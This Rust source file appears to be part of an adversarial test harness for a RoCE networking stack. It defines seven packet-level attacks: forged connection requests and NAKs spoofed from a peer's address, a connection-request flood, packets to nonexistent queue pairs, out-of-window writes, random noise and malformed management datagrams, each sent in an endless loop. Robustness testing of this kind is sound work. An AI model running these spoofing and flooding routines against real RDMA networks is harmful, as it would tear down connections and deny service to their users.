//! What anybody does who can send packets to port 4791: any user of the machine, without a session
//! and without privilege, from any address of the machine and an unused port.

use super::program::Result;
use super::{Attack, Setting};
use crate::rng::Rng;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::Instant;
use urxe_cm::{Config, Connect, Manager, Qp, Timing};
use urxe_types::{Msn, PathMtu, Psn, Qkey, QpType, Qpn};
use urxe_wire::mad::{MAD_LEN, PortSpace};
use urxe_wire::{
    Aeth, Bth, Datagram, Deth, Flow, Headers, NakCode, Opcode, ROCE_PORT, Syndrome, icrc,
};

/// The attacks.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "forged-req",
        what: "REQs that name the peer's QP of an established connection, from the peer's address",
        run: |setting, ready| told(forged_req(setting, ready)),
    },
    Attack {
        name: "forged-naks",
        what: "NAKs with every PSN to a busy QP, from the peer's address",
        run: |setting, ready| told(forged_naks(setting, ready)),
    },
    Attack {
        name: "req-flood",
        what: "REQs to every port, each of a connection of its own",
        run: |setting, ready| told(req_flood(setting, ready)),
    },
    Attack {
        name: "ghost-packets",
        what: "well-formed packets to QPs that do not exist",
        run: |setting, ready| told(ghosts(setting, ready)),
    },
    Attack {
        name: "out-of-window",
        what: "WRITEs far out of the window to a QP that exists, from the peer's address",
        run: |setting, ready| told(out_of_window(setting, ready)),
    },
    Attack {
        name: "noise",
        what: "random bytes, so that every ICRC is wrong",
        run: |setting, ready| told(noise(setting, ready)),
    },
    Attack {
        name: "malformed-mads",
        what: "management datagrams with random contents",
        run: |setting, ready| told(malformed_mads(setting, ready)),
    },
];

fn told(result: Result) -> String {
    result.err().map_or_else(|| "it ended".to_owned(), |error| error.to_string())
}

/// A socket at somebody's address, and what its packets come with.
struct Sender {
    socket: UdpSocket,
    flow: Flow,
}

impl Sender {
    fn new(src: IpAddr, dst: IpAddr) -> Result<Sender> {
        let socket = UdpSocket::bind((src, 0))?;
        // As the ICRC says: not to be fragmented, and with identification 0.
        socket.connect((dst, ROCE_PORT))?;
        let src_port = socket.local_addr()?.port();
        let flow = Flow { src, dst, src_port, traffic_class: 0, hop_limit: 64, flow_label: 0 };
        Ok(Sender { socket, flow })
    }

    /// Sends headers and a payload, with the right ICRC.
    fn send(&self, headers: &[u8], payload: &[u8]) {
        let mut bytes = [headers, payload, &[0; icrc::LEN]].concat();
        icrc::stamp(&self.flow, 0, &mut bytes);
        // A full buffer is no reason to end.
        let _ = self.socket.send(&bytes);
    }

    fn send_mad(&self, mad: &[u8; MAD_LEN]) {
        let deth = Deth { qkey: Qkey::GSI, src_qp: Qpn::GSI };
        let bth = Bth::new(Qpn::GSI, Psn::default());
        let headers = Headers::new(bth, Datagram { deth, imm: None });
        let mut bytes = vec![0; headers.len()];
        headers.emit(&mut bytes);
        self.send(&bytes, mad);
    }

    /// The REQ of a QP of this number.
    fn req(&self, cm: &mut Manager, port: u16, qpn: u32) -> Result<[u8; MAD_LEN]> {
        let qp = Qp {
            qpn: Qpn::new(qpn),
            responder_resources: 1,
            initiator_depth: 1,
            flow_control: false,
            rnr_retry_count: 7,
            srq: false,
        };
        let connect = Connect {
            qp_type: QpType::Rc,
            space: PortSpace::Tcp,
            src: SocketAddr::new(self.flow.src, 40_000),
            dst: SocketAddr::new(self.flow.dst, port),
            traffic_class: 0,
            path_mtu: PathMtu::Mtu1024,
            qp,
            retry_count: 7,
            ack_timeout: None,
            private_data: b"",
        };
        cm.connect(Instant::now(), &connect)?;
        Ok(cm.poll_mad().ok_or("no REQ")?.mad)
    }
}

fn manager() -> Manager {
    let timing = Timing::default();
    let active_mtu = PathMtu::Mtu1024;
    Manager::new(Config { guid: 7, seed: 7, active_mtu, max_rd_atomic: 1, timing })
}

fn forged_req(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let [near, far] = setting.addrs;
    let mut requests = Vec::new();
    for (src, dst, qpn) in [(far, near, setting.qpns[1]), (near, far, setting.qpns[0])] {
        let sender = Sender::new(src, dst)?;
        let req = sender.req(&mut manager(), 1, qpn)?;
        requests.push((sender, req));
    }
    ready();
    loop {
        for (sender, req) in &requests {
            sender.send_mad(req);
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
}

fn forged_naks(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let [near, far] = setting.addrs;
    let sender = Sender::new(far, near)?;
    let syndrome = Syndrome::Nak(NakCode::RemoteAccess);
    ready();
    let mut psn = 0;
    loop {
        let mut bytes =
            Bth::new(Qpn::new(setting.qpns[0]), Psn::new(psn)).emit(Opcode::RC_ACK).to_vec();
        bytes.extend(Aeth { syndrome, msn: Msn::new(psn) }.emit());
        sender.send(&bytes, &[]);
        // Any PSN of what is under way ends the QP: steps of its length would do.
        psn = psn.wrapping_add(1);
    }
}

fn req_flood(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(setting.addrs[1], setting.addrs[0])?;
    let mut requests = Vec::new();
    let mut cm = manager();
    for number in 0..10_000 {
        requests.push(sender.req(&mut cm, number as u16, 0x80_0000 + number)?);
    }
    ready();
    loop {
        for req in &requests {
            sender.send_mad(req);
        }
    }
}

fn ghosts(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(setting.addrs[1], setting.addrs[0])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let qpn = Qpn::new(0x80_0000 | rng.next_u64() as u32);
        let bth = Bth::new(qpn, Psn::new(rng.next_u64() as u32));
        sender.send(&bth.emit(Opcode::RC_SEND_ONLY), &[1; 64]);
    }
}

fn out_of_window(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(setting.addrs[0], setting.addrs[1])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let psn = Psn::new(rng.next_u64() as u32);
        let bth = Bth { ack_req: true, ..Bth::new(Qpn::new(setting.qpns[1]), psn) };
        sender.send(&bth.emit(Opcode::RC_WRITE_ONLY), &[0; 16 + 64]);
    }
}

fn noise(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(setting.addrs[1], setting.addrs[0])?;
    let mut rng = Rng::new(1);
    ready();
    loop {
        let len = rng.range(0..=1400) as usize;
        let _ = sender.socket.send(&rng.bytes(len));
    }
}

fn malformed_mads(setting: &Setting, ready: &mut dyn FnMut()) -> Result {
    let sender = Sender::new(setting.addrs[1], setting.addrs[0])?;
    let mut rng = Rng::new(1);
    let req = sender.req(&mut manager(), 1, 9)?;
    ready();
    loop {
        let mut mad = req;
        // The header stays, but for which message it is.
        rng.fill(&mut mad[24..]);
        mad[17] = rng.range(0x10..=0x1a) as u8;
        sender.send_mad(&mad);
    }
}
